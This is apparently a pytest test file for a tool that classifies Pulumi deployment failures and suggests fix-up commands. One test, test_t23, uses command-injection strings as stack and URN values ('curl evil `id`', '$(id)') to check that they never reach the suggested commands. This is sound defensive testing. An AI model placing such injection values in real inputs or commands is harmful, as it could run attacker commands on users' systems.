"""What the offline rules make of facts."""

from __future__ import annotations

import subprocess
import sys

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from upshot.evidence.catalogue import load_catalogue
from upshot.evidence.diagnosis import diagnose
from upshot.model import (
    EngineWarning,
    Facts,
    Failure,
    Outcome,
    PolicyViolation,
    StackRef,
)

DENIED = "AccessDenied: User: ci is not authorized to perform: sqs:CreateQueue"
TIMED_OUT = "timeout while waiting for state to become 'ISSUED'"


def failure(message: str, **fields: object) -> Failure:
    defaults: dict[str, object] = {"headline": message.split("\n", maxsplit=1)[0]}
    return Failure(message=message, **{**defaults, **fields})  # type: ignore[arg-type]


def failed(*failures: Failure, **fields: object) -> Facts:
    return Facts(outcome=Outcome.FAILED, failures=failures, **fields)  # type: ignore[arg-type]


@pytest.mark.parametrize("outcome", [Outcome.SUCCEEDED, Outcome.UNKNOWN])
def test_nothing_failed_has_no_class(outcome: Outcome) -> None:
    assert diagnose(Facts(outcome=outcome)).failure_class == ""


def test_a_success_has_no_class_whatever_its_warnings_say() -> None:
    warning = EngineWarning(
        message="error: AccessDenied, pending operations from previous deployment"
    )
    assert diagnose(Facts(outcome=Outcome.SUCCEEDED, warnings=(warning,))).failure_class == ""


@pytest.mark.parametrize(
    ("warned", "expected"),
    [
        (
            "update resources with 1 pending operations from previous deployment",
            "pending-operations",
        ),
        ("the weather is fine", ""),
    ],
)
def test_warnings_show_what_is_wrong_where_nothing_says_how_the_run_ended(
    warned: str, expected: str
) -> None:
    facts = Facts(outcome=Outcome.UNKNOWN, warnings=(EngineWarning(message=warned),))
    assert diagnose(facts).failure_class == expected


def test_an_interrupted_run_is_cancelled_whatever_failed_with_it() -> None:
    facts = Facts(outcome=Outcome.CANCELLED, failures=(failure(DENIED),))
    assert diagnose(facts).failure_class == "cancelled"


def test_an_unknown_failure_is_unclassified_and_says_so() -> None:
    found = diagnose(failed(failure("the frobnicator was miffed")))
    assert found.failure_class == "unclassified"
    assert "no rule" in found.explanation
    assert found.retry == ""
    assert found.next_steps


@pytest.mark.parametrize(("code", "expected"), [(255, "unclassified"), (2, "program-exception")])
def test_the_exit_code_of_the_cli_itself_says_nothing_of_the_program(
    code: int, expected: str
) -> None:
    found = diagnose(failed(failure(f"failed to run the update: exit status {code}")))
    assert found.failure_class == expected


def test_without_an_error_there_is_nothing_to_classify() -> None:
    found = diagnose(failed())
    assert (found.failure_class, found.title) == ("", "No error in the evidence")
    assert any("events-file" in step for step in found.next_steps)


def test_a_failure_whose_outcome_is_not_known_is_diagnosed_anyway() -> None:
    facts = Facts(outcome=Outcome.UNKNOWN, failures=(failure(DENIED),))
    assert diagnose(facts).failure_class == "permission-denied"


def test_the_most_specific_signal_wins() -> None:
    message = f"an unhandled error occurred: {DENIED}"
    assert diagnose(failed(failure(message))).failure_class == "permission-denied"


def test_the_root_cause_weighs_more_than_what_followed() -> None:
    follower = failure("NoSuchBucket: The specified bucket does not exist", is_cascade=True)
    assert diagnose(failed(failure(TIMED_OUT), follower)).failure_class == "not-ready"


def test_a_later_failure_wins_when_the_first_says_nothing_specific() -> None:
    found = diagnose(failed(failure(TIMED_OUT), failure(DENIED)))
    assert found.failure_class == "permission-denied"


def test_equal_classes_are_reported_as_ties() -> None:
    message = "BucketNotEmpty and FunctionAlreadyExists and DependencyViolation ServiceException"
    found = diagnose(failed(failure(message)))
    assert found.ties
    assert found.failure_class not in found.ties


def test_a_mandatory_violation_is_a_policy_violation_and_an_advisory_one_is_not() -> None:
    def facts(enforcement: str) -> Facts:
        violation = PolicyViolation(policy="p", pack="k", enforcement=enforcement, message="no")
        return failed(policy_violations=(violation,))

    assert diagnose(facts("mandatory")).failure_class == "policy-violation"
    assert diagnose(facts("advisory")).failure_class == ""


def test_the_stack_is_named_only_when_the_facts_name_it() -> None:
    locked = failure("the stack is currently locked by 1 lock(s)")
    named = diagnose(failed(locked, stack=StackRef("acme", "shop", "prod")))
    unnamed = diagnose(failed(locked))
    assert any("`pulumi cancel --stack acme/shop/prod`" in step for step in named.next_steps)
    assert any("`pulumi cancel`" in step for step in unnamed.next_steps)


def test_the_missing_key_is_in_the_command_to_paste() -> None:
    found = diagnose(failed(failure("Missing required configuration variable 'shop:dbName'")))
    assert "pulumi config set shop:dbName <value>" in found.next_steps[0]


def test_t23_a_hostile_stack_or_urn_reaches_no_command() -> None:
    protected = failure(
        "it is currently marked for protection", urn="urn:pulumi:x'; curl evil `id`"
    )
    found = diagnose(failed(protected, stack=StackRef("acme", "shop", "$(id)`")))
    steps = " ".join(found.next_steps)
    assert "evil" not in steps
    assert "$(id)" not in steps
    assert "'<URN>'" in steps


def test_a_type_is_named_only_in_the_form_that_commands_take() -> None:
    def import_step(type_: str) -> str:
        taken = failure("Role with name ci already exists", type=type_)
        return diagnose(failed(taken)).next_steps[0]

    assert "`pulumi import aws:iam/role:Role <name> <id>`" in import_step("aws:iam/role:Role")
    assert "`pulumi import <type> <name> <id>`" in import_step("aws:iam:Role")


def test_the_root_cause_is_looked_at_however_late_it_stands() -> None:
    followers = (failure(f"it followed, {n}", is_cascade=True) for n in range(200))
    found = diagnose(failed(*followers, failure(DENIED)))
    assert found.failure_class == "permission-denied"


def test_no_step_keeps_a_slot_open() -> None:
    for found in load_catalogue():
        for example in found.examples:
            diagnosis = diagnose(failed(failure(example.message)))
            assert "|" not in " ".join(diagnosis.next_steps)


@settings(max_examples=40)
@given(st.lists(st.text(max_size=200), max_size=5), st.sampled_from(list(Outcome)))
def test_any_text_gets_a_known_class_or_none(messages: list[str], outcome: Outcome) -> None:
    slugs = {found.slug for found in load_catalogue()}
    facts = Facts(outcome=outcome, failures=tuple(failure(text or "x") for text in messages))
    assert diagnose(facts).failure_class in {"", *slugs}


def test_the_catalogue_is_not_read_before_the_first_diagnosis() -> None:
    code = (
        "import sys; from upshot.evidence.diagnosis import diagnose;"
        "assert 'tomllib' not in sys.modules and 'upshot.evidence.catalogue' not in sys.modules"
    )
    subprocess.run([sys.executable, "-c", code], check=True)


def test_the_room_gives_the_function_whatever_was_imported_before() -> None:
    code = (
        "import upshot.evidence.diagnosis, upshot.evidence.excerpt, upshot.evidence.merge;"
        "from upshot.evidence import Excerpt, diagnose, merge_facts;"
        "assert callable(diagnose) and callable(Excerpt) and callable(merge_facts)"
    )
    subprocess.run([sys.executable, "-c", code], check=True)
